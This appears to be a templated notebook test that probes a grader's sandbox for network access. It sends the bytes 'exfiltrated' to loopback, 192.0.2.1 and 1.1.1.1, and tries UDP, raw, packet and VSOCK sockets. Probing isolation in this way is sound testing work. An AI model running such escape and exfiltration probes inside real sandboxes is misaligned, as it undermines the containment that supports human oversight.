# %% [markdown]
# Connects to the grader's machine and to the internet: TCP, UDP, IPv6, raw and netlink sockets.

# %% first
import socket

for address in (("127.0.0.1", __PORT__), ("localhost", __PORT__), ("::1", __PORT__), ("192.0.2.1", 80), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=0.3) as connection:
            connection.sendall(b"exfiltrated")
            print("GOT: connected to", address)
    except OSError:
        continue
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(b"exfiltrated", ("127.0.0.1", __PORT__))
        print("GOT: sent a datagram")
except OSError as error:
    print(error)
for kind in (("AF_PACKET", "SOCK_RAW"), ("AF_INET", "SOCK_RAW"), ("AF_VSOCK", "SOCK_STREAM")):
    try:
        with socket.socket(getattr(socket, kind[0]), getattr(socket, kind[1])) as raw:
            if kind[0] == "AF_VSOCK":
                raw.settimeout(0.3)
                raw.connect((2, __PORT__))
            print("GOT: a socket of kind", kind)
    except OSError:
        continue
